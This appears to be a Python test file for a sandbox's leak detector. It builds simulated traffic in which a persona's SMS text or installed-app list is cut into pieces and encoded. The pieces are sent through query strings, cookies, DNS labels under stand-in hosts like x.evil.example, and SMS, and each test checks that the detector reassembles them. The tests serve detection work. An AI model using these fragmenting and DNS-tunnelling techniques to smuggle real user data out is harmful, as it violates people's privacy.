"""What was cut into pieces is read as deeply as if it had been sent whole, however the pieces went."""

import base64
import bz2
import codecs
import json
import plistlib
import random
import struct
import zipfile
from io import BytesIO
from urllib.parse import quote

from owner import Blobs, owner
from sending import bare, cut, request

from sandbox.detect.matcher import Matcher
from sandbox.detect.sources import Sources
from sandbox.gateway.flow import Channel, Flow
from sandbox.persona.model import Persona

_URL = "https://up.example/px"


def _found(matcher: Matcher, flows: list[Flow], blobs: Blobs) -> set[str]:
    return {match.data_class.value for match in matcher.detect(flows, [], blobs).matches}


def _share(matcher: Matcher, flows: list[Flow], blobs: Blobs) -> float:
    return max((match.covered for match in matcher.detect(flows, [], blobs).matches), default=0.0)


def test_base64_is_read_where_only_some_pieces_need_percent_signs(matcher: Matcher, persona: Persona) -> None:
    text = persona.sms[0].body.encode("utf-32-le")
    encoded = [base64.b64encode(piece).decode() for piece in cut(text, 22)]
    assert any(piece.endswith("=") for piece in encoded)
    blobs = Blobs()
    flows = [
        request(blobs, at, f"{_URL}?d={quote(piece, safe='')}", method="GET")
        for at, piece in enumerate([*encoded[:-1], encoded[-1].rstrip("=")], 1)
    ]
    assert _found(matcher, flows, blobs) == {"sms_body"}


def test_a_cookie_without_a_name_is_a_piece(matcher: Matcher, persona: Persona) -> None:
    for pieces in (
        [quote(piece) for piece in cut(persona.sms[0].body.encode(), 9)],
        [base64.b64encode(piece).decode() for piece in cut(persona.sms[0].body.encode(), 7)],
    ):
        blobs = Blobs()
        flows = [request(blobs, at, headers=[("Cookie", piece)]) for at, piece in enumerate(pieces, 1)]
        assert _found(matcher, flows, blobs) == {"sms_body"}


def test_the_first_piece_of_a_message_may_look_like_a_document(matcher: Matcher, persona: Persona) -> None:
    head = b"POST /v1/up HTTP/1.1\r\nHost: up.example\r\nUser-Agent: okhttp/4.12.0\r\n\r\n"
    for whole, size in (
        (head + base64.b32encode(persona.sms[0].body.encode()), len(head) + 40),
        (b"a=1&d=" + base64.b64encode(persona.sms[0].body.encode()), 20),
    ):
        blobs = Blobs()
        flows = [request(blobs, at, body=piece) for at, piece in enumerate(cut(whole, size), 1)]
        assert _share(matcher, flows, blobs) == 1.0


def test_a_list_of_apps_is_told_where_no_piece_has_three(matcher: Matcher, persona: Persona) -> None:
    names = [app.package for app in persona.apps]
    for told, accused in ((names[:4], {"installed_apps"}), (names[:2], set[str]())):
        whole = ";".join(told).encode()
        blobs = Blobs()
        pieces = cut(whole, len(whole) // 2 + 1)
        flows = [request(blobs, at, body=piece) for at, piece in enumerate(pieces, 1)]
        assert _found(matcher, flows, blobs) == accused


def test_a_short_last_label_belongs_to_what_went_before(matcher: Matcher, persona: Persona) -> None:
    text = persona.sms[0].body.encode()
    encoded = text.rjust(len(text) // 45 * 45 + 63, b"-").hex()
    labels = [encoded[at : at + 30] for at in range(0, len(encoded), 30)]
    assert len(labels[-1]) == 6
    blobs = Blobs()
    names = [".".join(labels[at : at + 3]) + ".x.evil.example" for at in range(0, len(labels), 3)]
    flows = [bare(blobs, at, name.encode(), Channel.DNS, name) for at, name in enumerate(names, 1)]
    assert _share(matcher, flows, blobs) == 1.0


def test_text_that_is_cut_to_one_size_is_read_by_all_decoders(matcher: Matcher, persona: Persona) -> None:
    turned = codecs.encode(persona.sms[0].body, "rot13")
    escaped = "".join(f"\\{byte:03o}" for byte in persona.sms[0].body.encode())
    blobs = Blobs()
    others = [
        request(
            blobs, 90 + n, f"https://o.example/{n % 5}", b'{"a":"some words %d","b":"other, %d"}' % (n, n)
        )
        for n in range(15)
    ]
    for whole in (turned, escaped):
        pieces = cut(whole.encode(), 40)
        texts = [
            bare(blobs, at, b"%d/%d %s" % (at, len(pieces), piece), Channel.SMS, "+15005550006")
            for at, piece in enumerate(pieces, 1)
        ]
        assert "sms_body" in _found(matcher, [*texts, *others], blobs)


def test_lines_of_digits_are_read_in_json_with_its_escapes(matcher: Matcher, persona: Persona) -> None:
    packed = bz2.compress(persona.sms[0].body.encode() + random.Random(8).randbytes(900)).hex()
    whole = "\n".join(piece.decode() for piece in cut(packed.encode(), 70))
    blobs, pieces = Blobs(), cut(whole.encode(), 300)
    flows = [
        request(blobs, at, body=json.dumps({"n": at, "data": piece.decode()}).encode())
        for at, piece in enumerate(pieces, 1)
    ]
    assert _share(matcher, flows, blobs) == 1.0


def test_a_property_list_in_lookups_is_read_among_other_pieces(matcher: Matcher, persona: Persona) -> None:
    packed = plistlib.dumps({"v": persona.sms[0].body, "ok": True}, fmt=plistlib.FMT_BINARY)
    encoded = base64.b32encode(packed).decode().rstrip("=").lower()
    labels = [piece.decode() for piece in cut(encoded.encode(), 60)]
    blobs, draw = Blobs(), random.Random(3)
    names = [f"{label}.t.drip.example" for label in labels]
    flows = [bare(blobs, at, name.encode(), Channel.DNS, name) for at, name in enumerate(names, 1)]
    for at in range(60, 80):
        noise = base64.b32encode(draw.randbytes(30)).decode().lower().rstrip("=")
        flows.append(request(blobs, at, f"https://o.example/{at % 10}", b'{"id":"%s"}' % noise.encode()))
    assert _found(matcher, flows, blobs) == {"sms_body"}


def test_what_lies_in_one_datagram_is_told_if_the_others_say_how_to_read_it(
    matcher: Matcher, persona: Persona
) -> None:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", persona.sms[0].body + " and so on" * 4)
    body = packed.getvalue() + random.Random(5).randbytes(600)
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in cut(body, 57)) + b"0\r\n\r\n"
    parts = cut(chunks, 400)
    blobs = Blobs()
    flows = [
        bare(blobs, at, struct.pack(">HH", at - 1, len(parts)) + part) for at, part in enumerate(parts, 1)
    ]
    assert _found(matcher, flows, blobs) == {"sms_body"}


def test_noise_in_pieces_is_read_inside_of_a_frame(matcher: Matcher, persona: Persona) -> None:
    sound = b"\xff\xfb\x90\x64" + random.Random(6).randbytes(3000)
    comment = b"\x03eng\0" + persona.sms[0].body.encode()
    frame = b"COMM" + struct.pack(">IH", len(comment), 0) + comment
    tag = b"ID3\3\0\0" + bytes(len(frame) >> shift & 127 for shift in (21, 14, 7, 0)) + frame
    encoded = (tag + sound).hex()
    labels = [encoded[at : at + 60] for at in range(0, len(encoded), 60)]
    blobs = Blobs()
    flows = [
        bare(blobs, at, f"{label}.t.drip.example".encode(), Channel.DNS, f"{label}.t.drip.example")
        for at, label in enumerate(labels, 1)
    ]
    assert _found(matcher, flows, blobs) == {"sms_body"}


def test_the_same_pieces_of_a_stranger_accuse_nobody(matcher: Matcher) -> None:
    other = owner(77)
    blobs = Blobs()
    names = ";".join(app.package for app in other.apps[:4]).encode()
    flows = [request(blobs, at, body=piece) for at, piece in enumerate(cut(names, 40), 1)]
    pieces = cut(other.sms[0].body.encode("utf-16-le"), 10)
    flows += [
        request(blobs, 20 + at, headers=[("Cookie", base64.b64encode(piece).decode())])
        for at, piece in enumerate(pieces)
    ]
    assert _found(matcher, flows, blobs) == set()


def test_digits_behind_a_binary_header_belong_to_the_data() -> None:
    parts = [b"8f31b67bd211cc2b", b"4a2e87aded71526f", b"76ff2b6bbbffd7f2", b"955f041831042d75"]
    pieces = [struct.pack(">HH", at, len(parts)) + part for at, part in enumerate(parts)]
    blobs = Blobs()
    flows = [bare(blobs, at, piece) for at, piece in enumerate(pieces, 1)]
    sources = Sources(flows, blobs)
    assert list(sources.whole())
    assert b"".join(parts) in {source.data for source in sources.assembled()}
